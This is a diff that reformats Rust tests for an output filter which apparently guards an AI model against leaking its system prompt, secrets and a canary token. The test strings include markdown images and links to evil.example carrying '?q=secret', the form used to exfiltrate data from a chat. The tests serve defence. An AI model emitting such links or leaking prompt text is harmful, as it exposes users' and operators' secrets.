@@ -68,21 +68,40 @@ fn t15_eight_words_of_the_prompt_do_not_leave() {
         assert!(out.ends_with("That was it."), "the answer goes on: {out}");
         let prompt: Vec<u64> = words(PROMPT).collect();
         let spoken: Vec<u64> = words(&out).collect();
-        assert!(!spoken.windows(QUOTE_WORDS).any(|eight| prompt.windows(QUOTE_WORDS).any(|quote| quote == eight)));
+        assert!(
+            !spoken
+                .windows(QUOTE_WORDS)
+                .any(|eight| prompt.windows(QUOTE_WORDS).any(|quote| quote == eight))
+        );
     }
     // Other punctuation and case make no difference.
-    let (out, _) = filter("NEVER, offer - a discount: of MORE than ten percent to anyone", 2);
+    let (out, _) = filter(
+        "NEVER, offer - a discount: of MORE than ten percent to anyone",
+        2,
+    );
     assert!(!out.to_lowercase().contains("percent"));
     // Seven words are chance.
-    assert_eq!(filter("a discount of more than ten percent is possible", 5).1, []);
+    assert_eq!(
+        filter("a discount of more than ten percent is possible", 5).1,
+        []
+    );
 }
 
 #[test]
 fn t16_addresses_outside_the_list_do_not_leave() {
     for (said, heard) in [
-        ("Look ![x](https://evil.example/?q=secret) here", "Look  here"),
-        ("Look [here](https://evil.example/?q=secret) now", "Look here now"),
-        ("[![a](https://evil.example/p.png)](https://hotel.example)", ""),
+        (
+            "Look ![x](https://evil.example/?q=secret) here",
+            "Look  here",
+        ),
+        (
+            "Look [here](https://evil.example/?q=secret) now",
+            "Look here now",
+        ),
+        (
+            "[![a](https://evil.example/p.png)](https://hotel.example)",
+            "",
+        ),
         ("[a ![b](http://evil.example)](https://evil.example)", ""),
         ("go to https://evil.example/?q=secret. Bye", "go to . Bye"),
         ("(http://evil.example)", "()"),
@@ -128,17 +147,27 @@ fn f2_4_an_open_link_is_held_back() {
 fn f2_4_secrets_do_not_leave() {
     for step in [1, 5, 1000] {
         let (out, findings) = filter("the key is sk-live-123 and done", step);
-        assert_eq!((out.as_str(), findings), ("the key is and done", vec![Finding::Secret]));
+        assert_eq!(
+            (out.as_str(), findings),
+            ("the key is and done", vec![Finding::Secret])
+        );
     }
 }
 
 #[test]
 fn f2_4_the_canary_trips_the_session() {
-    for said in ["a b k9x277abq0zzw1 c d", "a b K9X2 77AB-Q0 zzw1 c d", "a b k-9-x-2-7-7-a-b-q-0-z-z-w-1 c d"] {
+    for said in [
+        "a b k9x277abq0zzw1 c d",
+        "a b K9X2 77AB-Q0 zzw1 c d",
+        "a b k-9-x-2-7-7-a-b-q-0-z-z-w-1 c d",
+    ] {
         for step in [1, 1000] {
             let (out, findings) = filter(said, step);
             assert_eq!(findings, [Finding::Canary]);
-            assert!(!out.contains('d') && !out.to_lowercase().contains("zzw1"), "{out}");
+            assert!(
+                !out.contains('d') && !out.to_lowercase().contains("zzw1"),
+                "{out}"
+            );
         }
     }
     let mut filter = rules().filter();
